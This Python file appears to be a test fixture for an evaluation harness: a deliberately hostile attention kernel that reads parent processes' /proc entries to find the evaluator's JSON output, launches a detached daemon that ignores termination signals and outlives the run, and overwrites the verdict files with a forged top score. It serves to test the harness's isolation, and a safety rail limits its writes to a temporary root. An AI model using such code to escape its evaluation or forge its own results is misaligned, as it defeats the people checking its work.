"""Hostile kernel, attack d (isolation): a daemon that outlives the evaluation and rewrites its
verdict on disk.

On its first call it finds every JSON file the evaluation may write: the `--json OUT` argument
of any ancestor (read from /proc/<pid>/cmdline, relative to that ancestor's /proc/<pid>/cwd) and
the *.json files (present or to come) in its own directory, its cwd and its ancestors' cwds. It
then leaves a daemon: double fork, setsid, SIGTERM/SIGHUP/SIGINT ignored, stdio detached, its
argv carrying the marker avo-hostile-@@MARK@@. For 40 s the daemon rewrites each of those files
into a forged {"status": "ok", "score": 1e9} every 50 ms. The kernel returns a wrong answer.

Verdict: `incorrect`; the --json file stays what the evaluator wrote, and no process carrying the
marker is left once the evaluation returns (the judge kills every process the kernel started).
Safety rail (for the test suite, not the attack): it writes only under @@SAFE@@.
"""
import os
import subprocess
import sys

import torch

MARK = "avo-hostile-@@MARK@@"
SAFE = "@@SAFE@@"  # the test fills in its temporary root; left as is, nothing matches

_DAEMON = r'''
import glob, json, os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
if os.fork():
    os._exit(0)
os.setsid()
files, dirs = json.loads(sys.argv[2]), json.loads(sys.argv[3])
forged = json.dumps({"status": "ok", "stage": None, "message": "", "score": 1e9, "forged": sys.argv[1]})
end = time.time() + 40
while time.time() < end:
    for p in set(files) | {p for d in dirs for p in glob.glob(os.path.join(d, "*.json"))}:
        try:
            if os.path.isfile(p) and open(p).read() != forged:
                open(p, "w").write(forged)
        except OSError:
            pass
    time.sleep(0.05)
'''


def _ancestors(n=6):
    pid, out = os.getpid(), []
    for _ in range(n):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _safe(p):
    return os.path.realpath(p).startswith(os.path.realpath(SAFE) + os.sep)


def _targets():
    files, dirs = set(), {os.path.dirname(os.path.abspath(__file__)), os.getcwd()}
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        dirs.add(cwd)
        for i, a in enumerate(argv):
            if a == "--json" and i + 1 < len(argv):
                files.add(os.path.join(cwd, argv[i + 1]))
            elif a.startswith("--json="):
                files.add(os.path.join(cwd, a.split("=", 1)[1]))
    return sorted(p for p in files if _safe(p)), sorted(d for d in dirs if _safe(d))


_started = False


def attention(q, k, v, causal=False, softmax_scale=None):
    global _started
    if not _started:
        _started = True
        import json
        files, dirs = _targets()
        subprocess.Popen([sys.executable, "-c", _DAEMON, MARK, json.dumps(files), json.dumps(dirs)],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    return torch.ones_like(q)
